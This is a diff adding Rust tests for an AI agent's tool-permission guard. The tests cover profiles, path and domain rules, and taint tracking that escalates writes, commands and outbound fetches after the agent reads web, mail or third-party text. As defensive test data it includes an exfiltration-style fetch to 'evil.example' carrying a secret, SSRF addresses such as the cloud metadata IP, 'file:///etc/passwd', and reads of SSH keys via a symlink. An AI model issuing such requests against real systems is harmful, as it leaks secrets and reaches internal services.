@@ -1,0 +1,398 @@
+//! The policy as a whole: profiles, lists, arguments, taint, answers.
+
+use hearth_guard::{
+    Answers, Class, Judgement, Mistake, Places, Policy, Profile, Request, Rules, Scope, Shell,
+    Source, Taint, Verdict,
+};
+use serde_json::{Value, json};
+
+struct House {
+    _folder: tempfile::TempDir,
+    places: Places,
+}
+
+fn house() -> House {
+    let folder = tempfile::tempdir().expect("a folder");
+    let root = folder.path();
+    for below in [
+        "home/workspace/memory",
+        "home/workspace/.git",
+        "person/.ssh",
+        "person/docs",
+        "person/other",
+    ] {
+        std::fs::create_dir_all(root.join(below)).expect("makes");
+    }
+    std::fs::write(root.join("home/workspace/notes.md"), "x").expect("writes");
+    std::fs::write(root.join("person/.ssh/id_rsa"), "x").expect("writes");
+    #[cfg(unix)]
+    std::os::unix::fs::symlink(
+        root.join("person/.ssh/id_rsa"),
+        root.join("home/workspace/link.md"),
+    )
+    .expect("links");
+    let places = Places {
+        workspace: root.join("home/workspace"),
+        home: root.join("home"),
+        person: Some(root.join("person")),
+    };
+    House { _folder: folder, places }
+}
+
+fn taint(sources: &[Source]) -> Taint {
+    let mut taint = Taint::new(true);
+    sources.iter().for_each(|source| taint.read(*source, ""));
+    taint
+}
+
+fn judged(policy: &Policy, taint: &Taint, tool: &str, arguments: Value) -> Judgement {
+    let Value::Object(arguments) = arguments else { panic!("no object") };
+    policy.judge(&Request {
+        tool,
+        class: Class::of_tool(tool),
+        arguments: &arguments,
+        by_person: true,
+        taint,
+        narrowed_to: None,
+        holds_secret: false,
+        shell: Shell::Sh,
+    })
+}
+
+fn check(rules: &Rules, sources: &[Source], cases: &[(&str, Value, Verdict, &str)]) {
+    let house = house();
+    let policy = Policy::new(rules, house.places.clone());
+    for (tool, arguments, verdict, rule) in cases {
+        let text = arguments.to_string();
+        let person = house.places.person.as_ref().expect("given").display().to_string();
+        let arguments = serde_json::from_str(&text.replace("PERSON", &person)).expect("JSON");
+        let got = judged(&policy, &taint(sources), tool, arguments);
+        assert_eq!(
+            (got.verdict, got.rule.as_str()),
+            (*verdict, *rule),
+            "{tool} {text}: {}",
+            got.why
+        );
+    }
+}
+
+use Verdict::{Allow, Ask, Deny};
+
+#[test]
+fn profiles_differ_in_what_they_do_unasked() {
+    let profile = |profile| Rules { profile, ..Rules::default() };
+    let write = json!({"path": "notes.md", "content": "x"});
+    check(
+        &profile(Profile::ReadOnly),
+        &[],
+        &[
+            ("read_file", json!({"path": "notes.md"}), Allow, "profile:read-only"),
+            ("write_file", write.clone(), Deny, "profile:read-only"),
+            ("exec", json!({"command": "ls"}), Deny, "profile:read-only"),
+            ("memory_append", json!({"text": "x"}), Deny, "profile:read-only"),
+        ],
+    );
+    check(
+        &profile(Profile::Assistant),
+        &[],
+        &[
+            ("write_file", write, Allow, "profile:assistant"),
+            ("exec", json!({"command": "ls -la"}), Allow, "command"),
+            ("exec", json!({"command": "cargo test"}), Ask, "command"),
+            ("exec", json!({"command": "touch x"}), Ask, "command"),
+            ("mail__send", json!({"to": "a"}), Ask, "profile:assistant"),
+            ("web_fetch", json!({"url": "https://example.org/"}), Allow, "profile:assistant"),
+        ],
+    );
+    check(
+        &profile(Profile::Coding),
+        &[],
+        &[
+            ("exec", json!({"command": "cargo test"}), Allow, "command"),
+            ("exec", json!({"command": "cargo publish"}), Ask, "command"),
+        ],
+    );
+    check(
+        &profile(Profile::Full),
+        &[],
+        &[
+            ("exec", json!({"command": "touch x"}), Allow, "command"),
+            ("exec", json!({"command": "touch /x"}), Ask, "command"),
+            ("exec", json!({"command": "touch x > y"}), Ask, "command"),
+            ("exec", json!({"command": "sudo touch x"}), Ask, "command"),
+            ("mail__send", json!({"to": "a"}), Allow, "profile:full"),
+        ],
+    );
+}
+
+#[test]
+fn deny_wins_and_groups_count() {
+    let rules = Rules {
+        allow_tools: vec!["exec".into(), "group:web".into(), "mail__send".into()],
+        deny_tools: vec!["group:runtime".into(), "web_fetch".into()],
+        ..Rules::default()
+    };
+    check(
+        &rules,
+        &[],
+        &[
+            ("exec", json!({"command": "ls"}), Deny, "deny_tools"),
+            ("web_fetch", json!({"url": "https://example.org"}), Deny, "deny_tools"),
+            ("web_search", json!({"query": "x"}), Allow, "profile:assistant"),
+            ("mail__send", json!({"to": "a"}), Allow, "profile:assistant"),
+        ],
+    );
+}
+
+#[test]
+fn paths_are_judged_where_they_lead() {
+    let rules = Rules {
+        allowed_roots: vec!["~/docs".into()],
+        blocked_paths: vec!["*.pem".into(), "~/docs/private".into(), "memory/secret".into()],
+        ..Rules::default()
+    };
+    check(
+        &rules,
+        &[],
+        &[
+            ("read_file", json!({"path": "notes.md"}), Allow, "profile:assistant"),
+            ("read_file", json!({"path": "new/file.md"}), Allow, "profile:assistant"),
+            ("read_file", json!({"path": "../hearth.toml"}), Deny, "home"),
+            ("read_file", json!({"path": "PERSON/docs/a.md"}), Allow, "allowed_roots"),
+            ("write_file", json!({"path": "PERSON/docs/a.md"}), Ask, "allowed_roots"),
+            ("read_file", json!({"path": "PERSON/docs/../other/a"}), Deny, "allowed_roots"),
+            ("read_file", json!({"path": "PERSON/docs/Private/a"}), Deny, "blocked_paths"),
+            ("read_file", json!({"path": "PERSON/.ssh/id_rsa"}), Deny, "keys"),
+            ("read_file", json!({"path": "a/KEY.PEM"}), Deny, "blocked_paths"),
+            ("read_file", json!({"path": "memory/secret/x.md"}), Deny, "blocked_paths"),
+            ("read_file", json!({"path": "/etc/passwd"}), Deny, "allowed_roots"),
+            ("read_file", json!({"path": "a\u{202e}b"}), Deny, "path"),
+            ("read_file", json!({"path": "nothing/../../x"}), Deny, "path"),
+            ("write_file", json!({"path": ".git/hooks/pre-commit"}), Ask, "machinery"),
+            ("write_file", json!({"path": ".GIT/config"}), Ask, "machinery"),
+            ("exec", json!({"command": "cat memory/secret/x.md"}), Ask, "command"),
+            ("exec", json!({"command": "ls", "cwd": "PERSON/docs"}), Allow, "command"),
+            ("exec", json!({"command": "ls", "cwd": "/"}), Ask, "command"),
+        ],
+    );
+    #[cfg(unix)]
+    check(
+        &rules,
+        &[],
+        &[
+            ("read_file", json!({"path": "link.md"}), Deny, "keys"),
+            ("exec", json!({"command": "cat link.md"}), Ask, "command"),
+        ],
+    );
+}
+
+#[test]
+fn addresses_are_judged_before_they_are_asked_for() {
+    let inner = [
+        "http://127.0.0.1:1/",
+        "http://169.254.169.254/",
+        "http://[::ffff:127.0.0.1]/",
+        "http://2130706433/",
+        "http://0x7f.1/",
+        "http://localhost/",
+        "http://a.localhost./",
+        "http://[fd00::1]/",
+        "http://router/",
+        "http://[64:ff9b::7f00:1]/",
+        "http://[2002:7f00:1::]/",
+        "http://100.64.0.1/",
+        "ftp://example.org/",
+        "file:///etc/passwd",
+        "https://a:b@example.org/",
+        "http://017700000001/",
+        "http://１２７.0.0.1/",
+        "x",
+    ];
+    for url in inner {
+        check(&Rules::default(), &[], &[("web_fetch", json!({"url": url}), Deny, "address")]);
+    }
+    let rules = Rules {
+        allowed_domains: vec!["example.org".into(), "*.docs.rs".into()],
+        ..Rules::default()
+    };
+    check(
+        &rules,
+        &[Source::Web],
+        &[
+            ("web_fetch", json!({"url": "https://a.example.org/x"}), Allow, "profile:assistant"),
+            (
+                "web_fetch",
+                json!({"url": "https://example.org.evil.net/x"}),
+                Deny,
+                "allowed_domains",
+            ),
+            ("web_fetch", json!({"url": "https://docs.rs/x"}), Deny, "allowed_domains"),
+            ("web_fetch", json!({"url": "https://evilexample.org/x"}), Deny, "allowed_domains"),
+        ],
+    );
+}
+
+#[test]
+fn after_untrusted_text_what_lasts_runs_or_leaves_is_asked_about() {
+    let rules = Rules::default();
+    let fetch = json!({"url": "https://evil.example/?d=secret"});
+    for source in
+        [Source::Web, Source::Mail, Source::OutsideFile, Source::ThirdParty, Source::MarkedMemory]
+    {
+        check(
+            &rules,
+            &[source],
+            &[
+                ("read_file", json!({"path": "notes.md"}), Allow, "profile:assistant"),
+                ("write_file", json!({"path": "notes.md"}), Allow, "profile:assistant"),
+                ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
+                ("edit_file", json!({"path": "./soul.MD"}), Ask, "taint:instructions"),
+                ("write_file", json!({"path": "skills/x/SKILL.md"}), Ask, "taint:instructions"),
+                ("write_file", json!({"path": "HEARTBEAT.md"}), Ask, "taint:instructions"),
+                ("write_file", json!({"path": "memory/2026-01-01.md"}), Ask, "taint:memory"),
+                ("write_file", json!({"path": "run.sh"}), Ask, "taint:script"),
+                ("memory_append", json!({"text": "x"}), Ask, "taint:memory"),
+                ("memory_forget", json!({"id": "x"}), Ask, "taint:memory"),
+                ("exec", json!({"command": "ls"}), Ask, "taint:run"),
+                ("web_fetch", fetch.clone(), Ask, "taint:way-out"),
+                ("web_search", json!({"query": "weather Berlin"}), Allow, "profile:assistant"),
+                (
+                    "web_search",
+                    json!({"query": "aGVsbG8gd29ybGQgdGhpcyBpcw"}),
+                    Ask,
+                    "taint:way-out",
+                ),
+                ("notify", json!({"title": "x", "body": "y"}), Ask, "taint:notify"),
+                ("cron", json!({"action": "add"}), Ask, "taint:schedule"),
+                ("cron", json!({"action": "list"}), Allow, "profile:assistant"),
+                ("mail__send", json!({}), Ask, "taint:third-party"),
+            ],
+        );
+    }
+    check(
+        &rules,
+        &[Source::Workspace],
+        &[
+            ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
+            ("memory_append", json!({"text": "x"}), Allow, "profile:assistant"),
+            ("exec", json!({"command": "ls"}), Allow, "command"),
+            ("web_fetch", fetch, Ask, "taint:way-out"),
+            ("notify", json!({"body": "ready"}), Allow, "profile:assistant"),
+            ("notify", json!({"body": "see https://evil.example"}), Ask, "taint:notify"),
+        ],
+    );
+}
+
+#[test]
+fn only_addresses_that_the_model_did_not_make_up_are_read_after_untrusted_text() {
+    let house = house();
+    let policy = Policy::new(&Rules::default(), house.places.clone());
+    let mut taint = Taint::new(true);
+    taint.said("Look at https://example.org/a?b=1, and at docs.rs/tokio（快）。");
+    let fetch =
+        |taint: &Taint, url: &str| judged(&policy, taint, "web_fetch", json!({"url": url})).verdict;
+    taint.read(Source::Workspace, "");
+    assert_eq!(fetch(&taint, "https://example.org/a?b=1"), Allow);
+    assert_eq!(fetch(&taint, "https://example.org/other"), Allow, "the person named the host");
+    taint.read(Source::SearchResults, "1. https://found.example/x\n2. https://found.example/y");
+    assert_eq!(fetch(&taint, "https://example.org/a?b=1#part"), Allow);
+    assert_eq!(fetch(&taint, "https://docs.rs/tokio"), Allow);
+    assert_eq!(fetch(&taint, "https://example.org/other"), Ask);
+    assert_eq!(fetch(&taint, "https://found.example/x"), Allow);
+    assert_eq!(fetch(&taint, "https://found.example/x?secret"), Ask);
+    let many: Vec<String> = (0..20).map(|n| format!("https://bits.example/{n}")).collect();
+    taint.read(Source::SearchResults, &many.join(" "));
+    assert!(many.iter().all(|url| fetch(&taint, url) == Allow), "nothing was followed yet");
+    for url in &many[..6] {
+        taint.follow(url);
+    }
+    assert_eq!(fetch(&taint, &many[7]), Ask);
+    assert_eq!(fetch(&taint, &many[5]), Allow, "read before");
+}
+
+#[test]
+fn a_turn_without_the_person_asks_before_it_changes_rules_or_sends() {
+    let house = house();
+    let policy = Policy::new(&Rules::default(), house.places.clone());
+    let arguments = json!({"path": "AGENTS.md", "content": "x"});
+    let Value::Object(arguments) = arguments else { panic!("no object") };
+    let taint = Taint::new(true);
+    let request = Request {
+        tool: "write_file",
+        class: Class::Write,
+        arguments: &arguments,
+        by_person: false,
+        taint: &taint,
+        narrowed_to: None,
+        holds_secret: false,
+        shell: Shell::Sh,
+    };
+    let judged = policy.judge(&request);
+    assert_eq!((judged.verdict, judged.rule.as_str()), (Ask, "taint:instructions"));
+    assert!(judged.why.starts_with("nobody is at the keyboard"), "{}", judged.why);
+    let tools = ["read_file".to_owned()];
+    let judged = policy.judge(&Request { narrowed_to: Some(&tools), ..request });
+    assert_eq!((judged.verdict, judged.rule.as_str()), (Deny, "narrowed"));
+    let judged = policy.judge(&Request { holds_secret: true, ..request });
+    assert_eq!((judged.verdict, judged.rule.as_str()), (Deny, "secret"));
+}
+
+#[test]
+fn a_mistake_closes_the_guard_with_its_line() {
+    let mistake =
+        Mistake { line: 7, key: "guard.profile".into(), message: "must be one of …".into() };
+    for rules in [
+        Rules { mistakes: vec![mistake], profile: Profile::Full, ..Rules::default() },
+        Rules { deny_tools: vec!["exce".into()], ..Rules::default() },
+        Rules { allowed_roots: vec!["docs".into()], ..Rules::default() },
+        Rules { allowed_domains: vec!["http://x.org/".into()], ..Rules::default() },
+    ] {
+        let at_line = !rules.mistakes.is_empty();
+        let house = house();
+        let policy = Policy::new(&rules, house.places.clone());
+        let read = judged(&policy, &taint(&[]), "read_file", json!({"path": "notes.md"}));
+        assert_eq!(read.verdict, Allow);
+        for (tool, arguments) in [
+            ("write_file", json!({"path": "notes.md"})),
+            ("exec", json!({"command": "ls"})),
+            ("web_fetch", json!({"url": "https://example.org"})),
+            ("mail__send", json!({})),
+        ] {
+            let got = judged(&policy, &taint(&[]), tool, arguments);
+            assert_eq!((got.verdict, got.rule.as_str()), (Deny, "settings"));
+            assert_eq!(got.why.contains("line 7"), at_line, "{}", got.why);
+        }
+    }
+}
+
+#[test]
+fn answers_change_questions_only() {
+    let ask = |rule: &str| Judgement { verdict: Ask, rule: rule.into(), why: "w".into() };
+    let none = Answers::default();
+    assert_eq!(ask("command").settled(none).verdict, Deny);
+    assert_eq!(ask("command").settled(Answers { attended: true, ..none }).verdict, Ask);
+    assert_eq!(ask("taint:run").settled(Answers { yes_to_tool: true, ..none }).verdict, Allow);
+    let standing = |scope| Answers { standing: Some(scope), ..none };
+    assert_eq!(ask("command").settled(standing(Scope::Always)).verdict, Allow);
+    assert_eq!(ask("taint:run").settled(standing(Scope::Always)).verdict, Deny);
+    assert_eq!(ask("taint:run").settled(standing(Scope::Session)).verdict, Allow);
+    let deny = Judgement { verdict: Deny, rule: "deny_tools".into(), why: "w".into() };
+    let all = Answers { yes_to_tool: true, standing: Some(Scope::Always), attended: true };
+    assert_eq!(deny.clone().settled(all), deny);
+}
+
+#[test]
+fn taint_grows_and_is_carried() {
+    let mut parent = Taint::new(true);
+    assert_eq!(parent.mark(), None);
+    parent.read(Source::Workspace, "");
+    let mut child = Taint::new(false);
+    child.read(Source::Web, "");
+    parent.join(&child);
+    assert_eq!(parent.mark(), Some(Source::Web));
+    assert_eq!(parent.names(), ["a web page"]);
+    parent.read(Source::Person, "");
+    assert_eq!(parent.trust(), hearth_guard::Trust::Untrusted);
+    let stored = serde_json::to_string(&parent).expect("JSON");
+    assert_eq!(serde_json::from_str::<Taint>(&stored).expect("read"), parent);
+}
